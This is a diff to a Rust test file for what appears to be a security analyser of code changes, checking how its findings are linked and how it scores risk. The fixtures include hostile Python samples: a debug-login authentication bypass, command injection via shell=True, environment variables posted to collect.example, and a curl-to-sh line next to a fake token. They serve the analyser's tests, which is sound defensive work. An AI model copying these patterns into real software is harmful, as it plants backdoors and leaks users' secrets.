@@ -2,6 +2,7 @@
 
 use std::sync::Arc;
 
+use lazaret::analysis::across::{self, Together};
 use lazaret::analysis::engine::{Engine, Selection};
 use lazaret::analysis::examples::change_of;
 use lazaret::analysis::language::Language;
@@ -12,9 +13,14 @@ use lazaret::analysis::{links, risk};
 use lazaret::model::change::{Change, Texts};
 use lazaret::model::diff::{LineKind, Place, Side};
 use lazaret::model::finding::{Finding, Fingerprint, Where};
+use lazaret::model::link::{Link, Tied};
+use lazaret::model::pull::{Origin, PullRef};
+use lazaret::model::report::Report;
 use lazaret::model::risk::Lane;
 use lazaret::model::rule::{Confidence, Example, ExampleFile, FindingClass, RuleId, Severity};
 use lazaret::model::story::Story;
+use lazaret::model::thread::Threads;
+use lazaret::model::time::Timestamp;
 use proptest::prelude::*;
 
 const PATHS: [&str; 12] = ["a.py", "a.rs", "a.ts", "a.go", "a.java", "a.rb", "a.sh", "a.php", "a.yml", "a.json", "a.md", "Dockerfile"];
@@ -46,7 +52,7 @@ fn finding(name: &str, severity: Severity, at: (&str, u32), evidence: &str) -> F
 }
 
 fn lane_of(findings: &[Finding]) -> Lane {
-    risk::assess(findings, &Story::default(), 0).lane
+    risk::assess(findings, &Story::default(), &[], 0).lane
 }
 
 #[test]
@@ -115,8 +121,8 @@ fn two_hard_findings_that_share_a_new_name_stop_a_change() {
         finding("flag", Severity::High, ("config/defaults.ts", 4), "trustProxyHeaders: true,"),
         finding("use", Severity::High, ("src/verify.ts", 80), "if (flags.trustProxyHeaders) return req.headers['x-user']"),
     ];
-    links::link(&change, &mut findings);
-    assert_eq!(findings[0].links, [findings[1].id.clone()]);
+    links::link(&change, &Threads::default(), &mut findings);
+    assert_eq!(findings[0].why_linked(&findings[1].id), Some("both name `trustProxyHeaders`"));
     assert_eq!(lane_of(&findings), Lane::Stop);
 }
 
@@ -127,7 +133,7 @@ fn words_and_common_names_that_were_there_before_link_nothing() {
         let evidence = format!("{name}(1)");
         let mut findings =
             vec![finding("a", Severity::High, ("a.ts", 40), &evidence), finding("b", Severity::High, ("b.ts", 1), &evidence)];
-        links::link(&change, &mut findings);
+        links::link(&change, &Threads::default(), &mut findings);
         !findings[0].links.is_empty()
     };
     assert!(linked("const debugLogin = false\n", "debugLogin"), "a coined name whose meaning changes");
@@ -138,7 +144,7 @@ fn words_and_common_names_that_were_there_before_link_nothing() {
 #[test]
 fn a_score_is_the_sum_of_its_reasons() {
     let findings: Vec<Finding> = (1..9).map(|n| finding("x", Severity::High, ("a.py", n * 50), "evidence")).collect();
-    let risk = risk::assess(&findings, &Story::default(), 0);
+    let risk = risk::assess(&findings, &Story::default(), &[], 0);
     assert_eq!(u32::from(risk.score), risk.contributions.iter().map(|reason| u32::from(reason.points)).sum::<u32>());
     assert!(risk.contributions.iter().all(|reason| !reason.why.is_empty()));
 }
@@ -147,7 +153,7 @@ fn a_score_is_the_sum_of_its_reasons() {
 fn more_and_worse_findings_score_higher() {
     let score = |count: u32, severity: Severity| {
         let findings: Vec<Finding> = (0..count).map(|n| finding("x", severity, ("a.py", n * 50 + 1), "evidence")).collect();
-        risk::assess(&findings, &Story::default(), 0).score
+        risk::assess(&findings, &Story::default(), &[], 0).score
     };
     assert!(score(1, Severity::Low) < score(1, Severity::Medium) && score(1, Severity::Medium) < score(3, Severity::Medium));
     assert!(score(1, Severity::High) < score(2, Severity::High) && score(9, Severity::High) < score(1, Severity::Critical));
@@ -242,4 +248,88 @@ fn many_files_take_no_quadratic_time() {
     let report = engine.analyse(&change, &|_| texts.clone());
     assert!(report.findings.is_empty() && change.patch.files.len() == 4_000);
     assert!(begun.elapsed() < std::time::Duration::from_secs(20), "{:?}", begun.elapsed());
+}
+
+/// The judgement of a change of these files, each with its text before and after.
+fn judged(files: &[(&str, Option<&str>, &str)]) -> Report {
+    let file = |(path, before, after): &(&str, Option<&str>, &str)| ExampleFile {
+        path: (*path).to_owned(),
+        before: before.map(str::to_owned),
+        after: Some((*after).to_owned()),
+    };
+    let files = files.iter().map(file).collect();
+    let (change, texts) =
+        change_of(&Example { hits: true, about: String::new(), files, message: "Change".to_owned(), branch: String::new() });
+    Engine::new(&Selection::default()).analyse(&change, &|_| texts.clone())
+}
+
+/// A gate that asks the setting `allow_debug_login`.
+const GATE: &str = "import os\nfrom app.settings import settings\n\n\ndef authenticate(user, password):\n    if settings.allow_debug_login or os.environ.get(\"DEBUG_AUTH\"):\n        return User(role=\"admin\")\n    return check_password(user, password)\n";
+
+fn why(report: &Report) -> Vec<String> {
+    report.findings.iter().flat_map(|finding| &finding.links).map(|link| link.why.clone()).collect()
+}
+
+#[test]
+fn a_setting_here_and_the_code_that_relaxes_by_it_are_tied_in_words() {
+    let report = judged(&[
+        ("config/default.yml", Some("auth:\n  rounds: 12\n"), "auth:\n  rounds: 12\n  allow-debug-login: true\n"),
+        ("app/auth.py", Some("x = 1\n"), GATE),
+    ]);
+    let told = "uses `allow_debug_login`, which this change sets there";
+    let tied = report.findings.iter().flat_map(|finding| &finding.links).find(|link| link.why == told);
+    let Some(Link { to: Tied::Place(at), .. }) = tied else { panic!("{:?}", why(&report)) };
+    assert_eq!(at.to_string(), "config/default.yml:3");
+}
+
+#[test]
+fn a_setting_that_was_there_ties_nothing() {
+    let same = "auth:\n  allow-debug-login: true\n";
+    let report = judged(&[("config/default.yml", Some(same), &format!("{same}  rounds: 12\n")), ("app/auth.py", Some("x = 1\n"), GATE)]);
+    assert!(!why(&report).iter().any(|why| why.contains("allow_debug_login")), "{:?}", why(&report));
+}
+
+#[test]
+fn a_helper_in_one_file_and_its_call_in_another_are_tied_in_words() {
+    let helper = "import requests\n\n\ndef ship_metrics(body):\n    requests.post(\"https://collect.example/x\", json={\"b\": body, \"e\": dict(os.environ)})\n";
+    let caller = "import os\nimport subprocess\nfrom app.metrics import ship_metrics\n\n\ndef report(request):\n    ship_metrics(subprocess.check_output(request.args[\"c\"], shell=True))\n";
+    let report = judged(&[("app/metrics.py", None, helper), ("app/report.py", Some("x = 1\n"), caller)]);
+    let told = why(&report);
+    assert!(told.contains(&"uses `ship_metrics`, which this change defines there".to_owned()), "{told:?}");
+    assert!(told.contains(&"is part of `ship_metrics`, which is used there".to_owned()), "{told:?}");
+}
+
+#[test]
+fn a_change_is_tied_to_the_earlier_one_whose_hook_it_uses_and_raises_it() {
+    let hooks = "package hooks\n\nfunc RegisterAfterRequest(name string, run func(r *Request)) {\n\tregistered[name] = run\n}\n";
+    let user = "import os\nimport requests\n\n\nRegisterAfterRequest(\"metrics\", lambda r: requests.post(\"https://collect.example/x\", json=dict(os.environ)))\n";
+    let (mut first, mut second) = (judged(&[("hooks/hooks.go", None, hooks)]), judged(&[("app/main.py", Some("x = 1\n"), user)]));
+    assert!(first.risk.lane < Lane::Review && second.hard().next().is_some(), "{:?} {:?}", first.findings, second.findings);
+    let at = |name: &str| PullRef { origin: Origin::Local, repo: "r".to_owned(), name: name.to_owned() };
+    let (one, two) = (at("one"), at("two"));
+    let engine = Engine::new(&Selection::default());
+    let mut all = [
+        Together { at: &two, opened: Timestamp(20), report: &mut second, unreadable: 0 },
+        Together { at: &one, opened: Timestamp(10), report: &mut first, unreadable: 0 },
+    ];
+    across::join(&engine, &mut all);
+    let links: Vec<&Link> = second.findings.iter().flat_map(|finding| &finding.links).collect();
+    let earlier = links.iter().find_map(|link| match &link.to {
+        Tied::Change { at, place } => Some((at.name.as_str(), place.to_string(), link.why.as_str())),
+        _ => None,
+    });
+    assert_eq!(earlier, Some(("one", "hooks/hooks.go:3".to_owned(), "uses `RegisterAfterRequest`, which that change defines")));
+    assert_eq!((first.risk.lane, first.activated.len()), (Lane::Review, 1));
+    assert!(first.risk.contributions.iter().any(|one| one.why.contains("r:two")), "{:?}", first.risk);
+}
+
+#[test]
+fn what_findings_name_holds_no_secret() {
+    let secret = ["ghp", "_", "1a2B3c4D5e6F7g8H9i0J1k2L3m4N5o6P7q8R"].concat();
+    let text = format!(
+        "import os\n\n\ndef deploy():\n    {} = \"{secret}\"\n    os.system(\"curl -H 'x: \" + token_value + \"{secret}' | sh\")\n",
+        "token_value"
+    );
+    let report = judged(&[("deploy.py", None, &text)]);
+    assert!(!report.findings.is_empty() && !format!("{report:?}").contains(&secret));
 }
